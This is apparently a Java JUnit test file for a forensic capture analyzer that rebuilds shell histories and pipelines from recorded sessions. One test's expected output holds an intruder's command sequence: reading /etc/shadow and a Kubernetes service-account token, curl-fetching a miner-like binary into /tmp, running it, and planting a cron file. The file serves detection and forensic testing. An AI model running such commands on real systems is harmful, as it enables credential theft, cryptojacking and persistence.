package io.scapula.analyzers;

import static org.assertj.core.api.Assertions.assertThat;

import io.scapula.Capture;
import io.scapula.analysis.Outcome;
import io.scapula.analyzers.process.Commands;
import io.scapula.architecture.Reactor;
import io.scapula.captures.Captures;
import io.scapula.table.Table;
import io.scapula.table.render.TextRenderer;
import io.scapula.testing.Rows;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/** {@code commands} as a tree, by pipelines and as shells' histories, against what was typed and what it printed before. */
class CommandViewsTest {
    private static final Path GOLDEN = Reactor.directory("src/test/resources/golden/commands");
    private static final String UPDATE = "scapula.golden.update";
    private static final int WIDTH = 100;
    private static final List<String> VIEWS = List.of("tree", "pipelines", "as-shell-history", "failed");
    private static final List<String> CAPTURES = List.of("attack.scap.gz", "ssh-session.scap.gz");

    private static Table show(String capture, String view) throws IOException {
        try (Capture opened = Capture.open(Captures.find(capture))) {
            Outcome outcome = opened.analyze(new Commands(), Map.of(view, "true"));
            return ((Outcome.Answered) outcome).table();
        }
    }

    @TestFactory
    Stream<DynamicTest> whatAHundredColumnsShowIsWhatTheyShowedBefore() {
        return CAPTURES.stream()
                .flatMap(capture -> VIEWS.stream()
                        .map(view -> DynamicTest.dynamicTest(view + " " + capture, () -> compare(capture, view))));
    }

    private static void compare(String capture, String view) throws IOException {
        Table table = show(capture, view);
        StringWriter text = new StringWriter();
        new TextRenderer(WIDTH, ZoneOffset.UTC).render(table.select(table.summary()), text);
        Path golden = GOLDEN.resolve(capture + "." + view + ".txt");
        if (Boolean.getBoolean(UPDATE)) {
            Files.writeString(golden, text.toString());
        }
        assertThat(golden).isRegularFile();
        assertThat(text.toString().lines()).containsExactlyElementsOf(Files.readAllLines(golden));
    }

    @Test
    void aliceTypedWhatTheHistoryShows() throws IOException {
        List<String> lines =
                Rows.of(show("ssh-session.scap.gz", "as-shell-history"), "user.name", "exit_codes", "line");

        assertThat(lines)
                .filteredOn(line -> line.startsWith("alice"))
                .containsSubsequence(
                        "alice 0 whoami",
                        "alice 0 0 0 ps aux | grep ssh | wc -l",
                        "alice 0 cat notes.txt",
                        "alice 0 tail -n 2 /etc/passwd",
                        "alice 1 cat /etc/shadow",
                        "alice 0 vi notes.txt",
                        "alice 130 sleep 60");
        assertThat(lines).anyMatch(line -> line.contains("-la /etc | head -5"));
    }

    @Test
    void theIntruderTypedWhatTheHistoryShows() throws IOException {
        Table history = show("attack.scap.gz", "as-shell-history");

        assertThat(Rows.of(history, "container.name", "exit_codes", "line"))
                .containsSubsequence(
                        "shop-web 0 id",
                        "shop-web 0 whoami",
                        "shop-web 0 hostname",
                        "shop-web 0 cat /etc/shadow",
                        "shop-web 0 0 env | head -5",
                        "shop-web 0 cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                        "shop-web 0 curl -s -o /tmp/.x http://127.0.0.1:8099/xmr",
                        "shop-web 0 chmod +x /tmp/.x",
                        "shop-web 7 /tmp/.x",
                        "shop-web 0 ls -la /tmp",
                        "shop-web 0 touch /etc/cron.d/evil");
    }

    @Test
    void whatTheReverseShellRanIsOnePipeline() throws IOException {
        assertThat(Rows.of(show("attack.scap.gz", "pipelines"), "container.name", "exit_codes", "pipeline"))
                .anyMatch(row -> row.startsWith("shop-web 0 0 cat /etc/passwd | head -3"));
    }

    @Test
    void anIndexAnswersAsAReplayDoes() throws IOException {
        for (String view : VIEWS) {
            Table replayed = show("attack.scap.gz", view);
            try (Capture indexed = Capture.open(Captures.find("attack.scap.gz"))) {
                indexed.index((bytes, total) -> {});
                Table table = ((Outcome.Answered) indexed.analyze(new Commands(), Map.of(view, "true"))).table();

                String[] columns =
                        table.columns().stream().map(column -> column.name()).toArray(String[]::new);
                assertThat(Rows.of(table, columns)).isEqualTo(Rows.of(replayed, columns));
            }
        }
    }
}
